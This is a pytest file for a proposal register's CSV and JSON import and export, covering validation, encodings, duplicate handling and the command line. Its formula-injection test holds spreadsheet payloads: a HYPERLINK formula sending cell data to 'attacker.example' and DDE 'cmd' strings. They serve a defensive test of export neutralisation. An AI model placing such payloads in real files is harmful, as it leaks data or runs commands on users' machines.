"""Import and export of the register on SQLite and PostgreSQL: what a spreadsheet user meets."""

from __future__ import annotations

import csv
import io
import json
import os
import subprocess
import time
from pathlib import Path
from typing import Any

import pytest
from sqlalchemy import delete
from sqlalchemy.engine import Engine

from bot import proposals, register_io
from bot.drafts import ProposalDraft
from bot.lifecycle import Status
from storage import repositories as repo
from storage.db import session_scope
from storage.models import AuditEntry, Objective, Proposal, ProposalLink, Vote
from tests.botproc import run_cli

HEADER = "ref,title,description,objective,status,value,effort,kpi_baseline,submitter\n"


@pytest.fixture
def objective(engine: Engine) -> str:
    with session_scope(engine) as session:
        proposals.add_objective(session=session, title="Reduce downtime", weight=2)
    return "Reduce downtime"


def _write(tmp_path: Path, content: str | bytes, name: str = "sheet.csv") -> Path:
    path = tmp_path / name
    if isinstance(content, bytes):
        path.write_bytes(content)
    else:
        path.write_text(content, encoding="utf-8", newline="")
    return path


def _import(
    engine: Engine, path: Path, *, create_objectives: bool = False
) -> register_io.ImportResult:
    more = {"create_objectives": True} if create_objectives else {}
    with session_scope(engine) as session:
        return register_io.import_file(session=session, path=path, **more)


def _refused(engine: Engine, path: Path) -> register_io.RegisterImportError:
    """The import's refusal; also checks that nothing at all was stored."""
    with session_scope(engine) as session:
        before = len(repo.list_proposals(session=session))
    with pytest.raises(register_io.RegisterImportError) as caught:
        _import(engine, path)
    with session_scope(engine) as session:
        assert len(repo.list_proposals(session=session)) == before
    return caught.value


def _stored(engine: Engine) -> list[Proposal]:
    with session_scope(engine) as session:
        return repo.list_proposals(session=session)


# Issue 6, item 10: numbers that are not finite.


NON_FINITE = ["inf", "-inf", "nan", "1e309", "Infinity", "-Infinity"]
NUMBER_COLUMNS = ["kpi_baseline", "kpi_target", "kpi_actual", "effort", "value"]


def test_non_finite_numbers_are_refused_by_the_import(engine: Engine, tmp_path: Path) -> None:
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["title", *NUMBER_COLUMNS])
    cases = [(raw, column) for raw in NON_FINITE for column in NUMBER_COLUMNS]
    for raw, column in cases:
        writer.writerow(
            ["Measure the backlog", *[raw if c == column else "" for c in NUMBER_COLUMNS]]
        )
    refusal = _refused(engine, _write(tmp_path, out.getvalue()))
    assert [p.split(":")[:2] for p in refusal.problems] == [
        [f"line {line}", f" {column}"] for line, (_, column) in enumerate(cases, start=2)
    ]


@pytest.mark.parametrize("literal", ["Infinity", "-Infinity", "NaN", "1e309", "-1e999"])
def test_json_import_refuses_non_finite_literals(
    engine: Engine, tmp_path: Path, literal: str
) -> None:
    path = _write(
        tmp_path,
        f'[\n  {{"title": "Ok"}},\n  {{"title": "Odd", "kpi_target": {literal}}}\n]\n',
        "r.json",
    )
    refusal = _refused(engine, path)
    assert [p.split(":")[:2] for p in refusal.problems] == [["line 3", " kpi_target"]]


def test_json_export_never_prints_infinity_or_nan(engine: Engine) -> None:
    # A value stored before such numbers were refused, written straight into the table.
    with session_scope(engine) as session:
        session.add(
            Proposal(
                title="Legacy",
                submitter="U1",
                status="needs_objective",
                kpi_baseline=float("inf"),
                kpi_target=float("-inf"),
            )
        )
    with session_scope(engine) as session:
        exported = register_io.export_text(session=session, fmt="json")
        as_csv = register_io.export_text(session=session, fmt="csv")

    def refuse(name: str) -> Any:
        raise AssertionError(f"{name} in the JSON export")

    rows = json.loads(exported, parse_constant=refuse)
    assert (rows[0]["kpi_baseline"], rows[0]["kpi_target"]) == (None, None)
    assert "inf" not in as_csv.lower()


# Issue 6, item 11: text that one database stores and the other refuses.


UNSTORABLE = [
    ("title", "Fix\x00VPN"),
    ("description", "Drops\x00 daily"),
    ("outcome", "\x00"),
    ("service", "VPN\x00"),
    ("kpi", "Tickets\x07"),
    ("submitter", "U1\x00"),
    ("owner", "ops\x1b[31m"),
    ("ref", "R\x00-1"),
    ("submitter", "U" * 81),
    ("owner", "o" * 81),
    ("ref", "R" * 81),
    ("service", "s" * 81),
]


def test_unstorable_text_is_refused_alike_on_both_databases(engine: Engine, tmp_path: Path) -> None:
    # Before, SQLite stored these and PostgreSQL failed with DataError.
    columns = sorted({column for column, _ in UNSTORABLE} - {"title"})
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["title", *columns])
    for column, value in UNSTORABLE:
        title = value if column == "title" else "Fix VPN"
        writer.writerow([title, *[value if c == column else "" for c in columns]])
    refusal = _refused(engine, _write(tmp_path, out.getvalue()))
    assert len(refusal.problems) == len(UNSTORABLE)
    for line, ((column, value), problem) in enumerate(
        zip(UNSTORABLE, refusal.problems, strict=True), start=2
    ):
        assert problem.startswith(f"line {line}: {column}: ")
        assert ("cannot be stored" if len(value) < 80 else "80") in problem


def test_json_lone_surrogate_is_refused(engine: Engine, tmp_path: Path) -> None:
    path = _write(tmp_path, '[{"title": "Fix \\ud800 VPN"}]', "r.json")
    refusal = _refused(engine, path)
    assert "line 1: title: Remove the invalid character U+D800" in refusal.problems[0]


# Issue 7, item 7: spreadsheets as they come.


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize("bom", [b"", b"\xef\xbb\xbf"])
def test_csv_dialect_and_byte_order_mark_are_detected(
    engine: Engine, objective: str, tmp_path: Path, delimiter: str, bom: bytes
) -> None:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)
    writer.writerow(["Title", "Objective", "KPI baseline", "Description"])
    writer.writerow(["Fix VPN, quickly; now", objective, "6,5", "Café\tcrème"])
    writer.writerow(["Patch servers", objective, "-5", ""])
    result = _import(engine, _write(tmp_path, bom + out.getvalue().encode()))
    got = [(p.title, p.kpi_baseline, p.description) for p in result.stored]
    assert got == [("Fix VPN, quickly; now", 6.5, "Café\tcrème"), ("Patch servers", -5.0, "")]


def test_excel_delimiter_line_is_honoured(engine: Engine, tmp_path: Path) -> None:
    path = _write(tmp_path, "sep=;\r\ntitle;value\r\nFix VPN, soon;3\r\nBad;9\r\n")
    assert _refused(engine, path).problems == [
        "line 4: value: Value is rated from 1 (low) to 5 (high)."
    ]


def test_another_encoding_is_told_to_save_as_csv_utf8(engine: Engine, tmp_path: Path) -> None:
    path = _write(tmp_path, "title,description\nCafé menu,Crème brûlée\n".encode("cp1252"))
    refusal = _refused(engine, path)
    assert refusal.problems[0].startswith("line 2: the file is not UTF-8")
    assert "save it as “CSV UTF-8”" in refusal.problems[0]
    assert "codec" not in str(refusal)


def test_enum_columns_accept_labels_in_any_case(
    engine: Engine, objective: str, tmp_path: Path
) -> None:
    path = _write(
        tmp_path,
        "title,objective,status,benefit,effort\n"
        f"One,{objective},In progress,Customer satisfaction,xl\n"
        f"Two,{objective},OPEN,EFFICIENCY,Medium\n"
        "Three,,Needs an objective,customer-satisfaction,3 days\n",
    )
    got = [(p.status, p.benefit, p.effort) for p in _import(engine, path).stored]
    assert got == [
        ("in_progress", "customer_satisfaction", "XL"),
        ("open", "efficiency", "M"),
        ("needs_objective", "customer_satisfaction", "3d"),
    ]


# Issue 7, items 8 and 10b: every problem in one pass, never a traceback.


def test_every_problem_is_listed_in_one_pass(
    engine: Engine, objective: str, tmp_path: Path
) -> None:
    with session_scope(engine) as session:
        proposals.capture(session=session, draft=ProposalDraft(title="Stored"), submitter="U1")
        repo.list_proposals(session=session)[0].ref = "R-9"
    path = _write(
        tmp_path,
        HEADER
        + f"R-1,Good,,{objective},,3,M,,U1\n"  # line 2: fine
        + f"R-2,Fractional,,{objective},,4.7,,,U1\n"  # line 3
        + f"R-3,Too many,,{objective},,3,M,,U1,extra\n"  # line 4
        + f"R-4,Merged nowhere,,{objective},merged,,,,U1\n"  # line 5
        + f"R-5,Needs one,,{objective},needs_objective,,,,U1\n"  # line 6
        + f"R-1,Repeated,,{objective},,,,,U1\n"  # line 7
        + f"R-9,Other title,,{objective},,,,,U1\n"  # line 8
        + f"R-6,Bad status,,{objective},done,,,,U1\n"  # line 9
        + 'R-7,"Multi\nline",,,,,,inf,U1\n'  # lines 10-11
        + ",,,,,,,,\n"  # line 12: blank, ignored
        + f"R-8,Last,,{objective},,,huge,,U1\n",  # line 13
    )
    problems = _refused(engine, path).problems
    assert [p.split(":")[0] for p in problems] == [
        "line 3",
        "line 4",
        "line 5",
        "line 6",
        "line 7",
        "line 8",
        "line 9",
        "line 10",
        "line 13",
    ]
    text = "\n".join(problems)
    assert "line 3: value: Value must be a whole number from 1 to 5, not “4.7”." in text
    assert "line 4: this row has 10 fields but the header has 9" in text
    assert "line 5: merged_into: A merged proposal names the proposal it was merged into" in text
    assert "line 6: status: A proposal that needs an objective cannot name one" in text
    assert "line 7: ref: “R-1” is repeated in this file (first on line 2)" in text
    assert "line 8: ref: “R-9” is already in the register as #" in text
    assert "line 9: status: “done” is not a status" in text
    assert "line 10: kpi_baseline: The KPI baseline must be an ordinary number" in text
    assert "line 13: effort: " in text


def test_json_problems_are_listed_with_their_lines(
    engine: Engine, objective: str, tmp_path: Path
) -> None:
    path = _write(
        tmp_path,
        '[\n  {"title": "Fine"},\n  {"title": "Bad", "value": 4.6},\n  "not an object",\n'
        '  {"title": "", "status": "merged"}\n]\n',
        "r.json",
    )
    problems = _refused(engine, path).problems
    assert problems == [
        "line 3: value: Value must be a whole number from 1 to 5, not “4.6”.",
        "line 4: each proposal must be an object.",
        "line 5: title: Give the proposal a title.",
        "line 5: merged_into: A merged proposal names the proposal it was merged into: give "
        "that row's id or ref.",
    ]


def test_json_objects_on_one_line_are_told_apart(
    engine: Engine, objective: str, tmp_path: Path
) -> None:
    rows = [{"ref": f"ONE-{n}", "title": f"Row {n}", "objective": objective} for n in range(3)]
    path = _write(tmp_path, json.dumps(rows), "one-line.json")
    assert [p.ref for p in _import(engine, path).stored] == ["ONE-0", "ONE-1", "ONE-2"]
    rows[2]["value"] = "6"
    rows.append({"ref": "ONE-0", "title": "Again"})
    path = _write(tmp_path, json.dumps(rows), "bad.json")
    assert _refused(engine, path).problems == [
        "line 1, proposal 3: value: Value is rated from 1 (low) to 5 (high).",
        "line 1, proposal 4: ref: “ONE-0” is repeated in this file (first on line 1, proposal 1); "
        "each ref names one proposal.",
        "line 1, proposal 4: ref: “ONE-0” is already in the register as #1 “Row 0”, with another "
        "title; give this row another ref, or remove it.",
    ]


def test_a_fractional_value_is_never_rounded(engine: Engine, tmp_path: Path) -> None:
    refusal = _refused(engine, _write(tmp_path, "title,value\nHalf,4.6\n"))
    assert refusal.problems == [
        "line 2: value: Value must be a whole number from 1 to 5, not “4.6”."
    ]
    stored = _import(engine, _write(tmp_path, "title,value\nWhole,4.0\n", "ok.csv")).stored
    assert [p.value for p in stored] == [4]


def test_an_over_long_csv_field_is_a_listed_problem(engine: Engine, tmp_path: Path) -> None:
    path = _write(tmp_path, f"title,description\nOk,short\nLong,{'x' * 200_000}\n")
    refusal = _refused(engine, path)
    assert refusal.problems == [
        "line 3: description: This is 200000 characters; the limit is 3000."
    ]


def test_json_line_numbers_stay_right_deep_into_a_large_file(
    engine: Engine, tmp_path: Path
) -> None:
    rows = [{"title": f"Proposal {n}", "description": "a\nb"} for n in range(5000)]
    rows[4999]["value"] = "9"
    text = json.dumps(rows, indent=2)
    path = _write(tmp_path, text, "big.json")
    line = text[: text.index('"Proposal 4999"')].count("\n")  # the object opens a line above
    assert _refused(engine, path).problems == [
        f"line {line}: value: Value is rated from 1 (low) to 5 (high)."
    ]


# Issue 7, item 9: importing the same file twice.


def test_importing_the_same_file_twice_skips_what_is_stored(
    engine: Engine, objective: str, tmp_path: Path
) -> None:
    path = _write(
        tmp_path,
        "ref,title,objective,description\n"
        f"R-1,With a ref,{objective},\n"
        f",Without a ref,{objective},Same words\n",
    )
    first = _import(engine, path)
    assert (len(first.stored), first.skipped) == (2, [])
    again = _import(engine, path)
    assert again.stored == []
    assert [(s.line, s.title) for s in again.skipped] == [(2, "With a ref"), (3, "Without a ref")]
    assert (
        register_io.report(again)[-1] == "Imported no proposals; skipped 2 already in the register."
    )
    grown = _write(tmp_path, path.read_text() + f"R-2,Something new,{objective},\n", "grown.csv")
    third = _import(engine, grown)
    assert [p.title for p in third.stored] == ["Something new"]
    assert register_io.report(third)[-2:] == [
        "Imported 1 proposal; skipped 2 already in the register.",
        "It has no card in the proposals channel yet; csi-bot cards post posts it.",
    ]
    assert len(_stored(engine)) == 3


def test_a_bad_row_stops_the_import_even_when_others_are_skipped(
    engine: Engine, objective: str, tmp_path: Path
) -> None:
    _import(engine, _write(tmp_path, f"title,objective\nKept,{objective}\n"))
    path = _write(
        tmp_path, f"title,objective\nKept,{objective}\nNew,{objective}\nBad,Nope\n", "2.csv"
    )
    refusal = _refused(engine, path)
    assert refusal.skipped == 1
    assert str(refusal).splitlines()[0] == "Nothing was imported: the file has 1 problem."
    assert str(refusal).splitlines()[-1] == (
        "(1 row is already in the register and would be skipped.)"
    )


# Issue 7, item 10: formula injection.

FORMULAS = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "'=already quoted",
]


def test_csv_export_neutralises_formulas_and_import_restores_them(
    engine: Engine, objective: str, tmp_path: Path
) -> None:
    with session_scope(engine) as session:
        for title in FORMULAS:
            proposals.capture(
                session=session,
                draft=ProposalDraft(
                    title=title,
                    description="=1+1",
                    service="@SUM(A1)",
                    kpi_baseline="-5",
                    kpi_target="-0.5",
                ),
                submitter="=cmd",
            )
        as_csv = register_io.export_text(session=session, fmt="csv")
        as_json = json.loads(register_io.export_text(session=session, fmt="json"))
    cells = list(csv.DictReader(io.StringIO(as_csv)))
    assert [c["title"] for c in cells] == ["'" + t for t in FORMULAS]
    for cell in cells:
        assert (cell["description"], cell["service"], cell["submitter"]) == (
            "'=1+1",
            "'@SUM(A1)",
            "'=cmd",
        )
        # Numbers stay numbers: a spreadsheet must still read -5 as minus five.
        assert (cell["kpi_baseline"], cell["kpi_target"]) == ("-5.0", "-0.5")
    assert [r["title"] for r in as_json] == FORMULAS
    _empty_register(engine)
    stored = _import(engine, _write(tmp_path, as_csv))
    assert [p.title for p in stored.stored] == FORMULAS
    assert {(p.description, p.service, p.submitter) for p in stored.stored} == {
        ("=1+1", "@SUM(A1)", "=cmd")
    }


# Issue 7, item 11: a register moves between installations.

VOLATILE = {"id", "updated_at", "votes", "priority", "permalink", "merged_into"}


def _comparable(rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
    titles = {row["id"]: row["title"] for row in rows}
    return [
        {k: v for k, v in row.items() if k not in VOLATILE}
        | {"merged_into": titles.get(row["merged_into"])}
        for row in rows
    ]


def _empty_register(engine: Engine) -> None:
    with session_scope(engine) as session:
        for table in (Vote, AuditEntry, ProposalLink, Proposal, Objective):
            session.execute(delete(table))


@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_export_into_an_empty_installation_reproduces_the_register(
    engine: Engine, tmp_path: Path, fmt: str
) -> None:
    with session_scope(engine) as session:
        uptime = proposals.add_objective(session=session, title="Reduce downtime").id
        cost = proposals.add_objective(session=session, title="Cut licence cost").id
        kept, _ = proposals.capture(
            session=session,
            draft=ProposalDraft(
                title="=Automate cert renewal",
                description="Certs expire\nunnoticed",
                outcome="No expiry outages",
                objective_id=uptime,
                service="Web",
                benefit="quality",
                value=4,
                effort="2.5d",
                kpi="Outages",
                kpi_baseline="-3",
                kpi_target="0",
            ),
            submitter="U1",
        )
        duplicate, _ = proposals.capture(
            session=session,
            draft=ProposalDraft(title="Renew certs automatically", objective_id=uptime),
            submitter="U2",
        )
        proposals.capture(session=session, draft=ProposalDraft(title="Drop fax"), submitter="U3")
        moving, _ = proposals.capture(
            session=session,
            draft=ProposalDraft(title="Fewer licences", objective_id=cost, effort="XL"),
            submitter="U4",
        )
        proposals.vote(session=session, proposal_id=kept.id or 0, user_id="U9")
        proposals.merge(
            session=session, duplicate_id=duplicate.id or 0, into_id=kept.id or 0, actor="USTEER"
        )
        for status in (Status.APPROVED, Status.IN_PROGRESS):
            proposals.transition(
                session=session, proposal_id=moving.id or 0, to=status, actor="USTEER"
            )
        moving.owner, moving.kpi_actual, moving.ref = "U5", 12.5, "LIC-1"
        session.add(moving)
    with session_scope(engine) as session:
        before = register_io.export_rows(session=session)
        document = register_io.export_text(session=session, fmt=fmt)
    _empty_register(engine)
    path = _write(tmp_path, document, f"register.{fmt}")
    with pytest.raises(register_io.RegisterImportError, match="--create-objectives"):
        _import(engine, path)
    result = _import(engine, path, create_objectives=True)
    assert sorted(o.title for o in result.created_objectives) == [
        "Cut licence cost",
        "Reduce downtime",
    ]
    assert register_io.report(result)[0] == (
        "Created 2 objectives the file names, with weight 1: “Reduce downtime”, “Cut licence cost”."
    )
    with session_scope(engine) as session:
        after = register_io.export_rows(session=session)
    assert _comparable(after) == _comparable(before)
    # Importing the same file again adds nothing.
    assert _import(engine, path, create_objectives=True).stored == []


def test_merged_into_names_a_row_of_the_file_or_a_stored_ref(
    engine: Engine, objective: str, tmp_path: Path
) -> None:
    _import(engine, _write(tmp_path, f"ref,title,objective\nOLD-1,Stored one,{objective}\n"))
    path = _write(
        tmp_path,
        "id,ref,title,objective,status,merged_into\n"
        f"7,,Target in file,{objective},,\n"
        f",D-1,Into file row,{objective},merged,7\n"
        f",D-2,Into stored ref,{objective},Merged,OLD-1\n"
        f",D-3,Into nowhere,{objective},merged,#404404\n"
        f",D-4,Into itself,{objective},merged,D-4\n"
        f",C-1,Circle one,{objective},merged,C-2\n"
        f",C-2,Circle two,{objective},merged,C-1\n",
        "merge.csv",
    )
    problems = _refused(engine, path).problems
    assert problems == [
        "line 5: merged_into: no row of this file and no proposal in the register is “#404404”.",
        "line 6: merged_into: a proposal cannot merge into itself.",
        "line 7: merged_into: rows merge into each other in a circle (line 7, line 8).",
    ]
    good = _write(tmp_path, "\n".join(path.read_text().splitlines()[:4]) + "\n", "good.csv")
    stored = {p.title: p for p in _import(engine, good).stored}
    by_ref = {p.ref: p for p in _stored(engine)}
    assert stored["Into file row"].merged_into_id == stored["Target in file"].id
    assert stored["Into stored ref"].merged_into_id == by_ref["OLD-1"].id


def test_json_import_takes_linear_time(tmp_path: Path) -> None:
    # Shaped like the export (24 keys, indented): the line of each object used to be recounted
    # from the start of the file, which made 20,000 rows take minutes.
    rows = [
        {column: f"{column} of proposal {n}" for column in register_io.EXPORT_FIELDS}
        for n in range(20_000)
    ]
    as_json = json.dumps(rows, indent=2).encode()
    out = io.StringIO()
    csv.DictWriter(out, fieldnames=register_io.EXPORT_FIELDS).writeheader()
    csv.DictWriter(out, fieldnames=register_io.EXPORT_FIELDS).writerows(rows)
    as_csv = out.getvalue().encode()
    started = time.perf_counter()
    assert len(register_io.parse_sheet(as_csv).rows) == 20_000
    csv_seconds = time.perf_counter() - started
    started = time.perf_counter()
    sheet = register_io.parse_sheet(as_json)
    json_seconds = time.perf_counter() - started
    assert sheet.rows[-1].line == as_json.count(b"\n") - 25
    assert json_seconds < 4 * csv_seconds + 1, (json_seconds, csv_seconds)


# Issue 7, item 13: the command line.


def _cli_env(database_url: str) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("SLACK_", "CSI_"))}
    return env | {"DATABASE_URL": database_url}


def test_import_help_lists_every_column_and_its_values(tmp_path: Path) -> None:
    result = run_cli("import", "--help", env=_cli_env("sqlite:///unused.db"), cwd=tmp_path)
    assert result.returncode == 0, result.stderr
    listed = {line.split()[0] for line in result.stdout.splitlines() if line.startswith("  ")}
    assert set(register_io.EXPORT_FIELDS) <= listed
    for words in ("in_progress", "customer_satisfaction", "Customer satisfaction", "whole number"):
        assert words in result.stdout
    assert "--create-objectives" in result.stdout


def test_cli_import_and_export_say_what_they_did(tmp_path: Path) -> None:
    # Words and exit statuses only: the storage behind them is tested above on both databases.
    env = _cli_env(f"sqlite:///{tmp_path / 'cli.db'}")

    def cli(*args: str) -> subprocess.CompletedProcess[str]:
        return run_cli(*args, env=env, cwd=tmp_path)

    assert cli("objective", "add", "Reduce downtime").returncode == 0
    first = _write(tmp_path, "title,objective\nFix VPN,reduce downtime\n", "one.csv")
    result = cli("import", str(first))
    assert (result.returncode, result.stdout.splitlines()[0]) == (0, "Imported 1 proposal.")
    more = _write(tmp_path, first.read_text() + "Patch servers,\nRotate keys,\n", "more.csv")
    result = cli("import", str(more))
    assert result.returncode == 0, result.stderr
    assert "Imported 2 proposals; skipped 1 already in the register." in result.stdout
    bad = _write(tmp_path, "title,value\n,3\nOk,4.6\n", "bad.csv")
    result = cli("import", str(bad))
    assert result.returncode == 1
    assert "line 2: title: Give the proposal a title." in result.stderr
    assert "line 3: value: Value must be a whole number from 1 to 5" in result.stderr
    assert "Traceback" not in result.stderr
    for usage in (
        ("import", str(tmp_path / "missing.csv")),
        ("import",),
        ("export", "--format", "xml"),
        ("export", "--output", str(tmp_path / "no" / "such" / "folder.csv")),
    ):
        assert cli(*usage).returncode == 2, usage
    result = cli("export", "--output", str(tmp_path / "register.csv"))
    assert (result.returncode, result.stdout.strip()) == (
        0,
        f"Wrote 3 proposals to {tmp_path / 'register.csv'}.",
    )
    written = (tmp_path / "register.csv").read_bytes()
    assert written.startswith(b"\xef\xbb\xbfid,ref,title,")
    result = cli("export", "--format", "json", "--output", str(tmp_path / "register.json"))
    assert result.returncode == 0
    rows = json.loads((tmp_path / "register.json").read_text())
    assert [r["title"] for r in rows] == ["Fix VPN", "Patch servers", "Rotate keys"]
